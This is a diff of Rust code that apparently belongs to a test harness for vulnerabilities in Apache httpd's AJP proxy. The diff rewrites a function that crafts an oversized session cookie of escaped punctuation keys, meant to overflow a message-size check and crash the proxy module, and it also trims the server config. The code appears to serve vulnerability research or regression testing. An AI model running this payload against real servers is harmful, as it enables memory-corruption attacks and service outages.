@@ -44,24 +44,19 @@ const HOLES: [Hole; 2] = [
         before: "if (msglen > msg->max_size) {",
         stock: &["mime", "proxy"],
         backend: Some("bad-ajp"),
-        config: "ProxyPass /hole ajp://127.0.0.1:{backend}/ iobuffersize=12248\nProxyIOBufferSize 12248\n",
+        config: "ProxyPass /hole ajp://127.0.0.1:{backend}/\n",
         said: &["the wall stopped proxy_ajp_module: ", "ajp_link.c:"],
     },
 ];
 
-/// Keys of two characters and values of one, all of which are written as three: each pair but the first needs one byte more
-/// than the hole's count has. With so many the block ends where the pool's page does.
+/// Keys of three characters and values of one, each of which is written as three: each pair but the first needs one byte more
+/// than the hole's count has. With so many the block ends where the pool's memory does.
 fn cookie() -> String {
-    const PAIRS: usize = 813;
-    const MARKS: &[u8] = b"!\"#$'()*,/:<>?@[]^`{|}~";
-    let marks = || MARKS.iter().filter(|mark| !b"\",".contains(mark));
-    let all = marks().flat_map(|first| {
-        let second = marks().chain(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklm");
-        second.map(move |second| (*first as char, *second as char))
-    });
-    let pairs = all
-        .take(PAIRS)
-        .map(|(first, second)| format!("{first}{second}=!"));
+    const PAIRS: usize = 610;
+    const MARKS: &str = "!#$'()/:<>?@[]^`{|}~";
+    let marks = || MARKS.chars();
+    let all = marks().flat_map(|a| marks().flat_map(move |b| marks().map(move |c| (a, b, c))));
+    let pairs = all.take(PAIRS).map(|(a, b, c)| format!("{a}{b}{c}=!"));
     format!("session={}", pairs.collect::<Vec<_>>().join("&"))
 }
 
@@ -129,7 +124,7 @@ impl Hole {
         if let Some(kind) = self.backend {
             config = config.replace("{backend}", &crate::backends::start(kind).to_string());
         }
-        format!("{stock}{own}{with}{config}LimitRequestFieldSize 16000\n")
+        format!("{stock}{own}{with}{config}")
     }
 
     fn attack(&self, port: u16) -> Option<u16> {
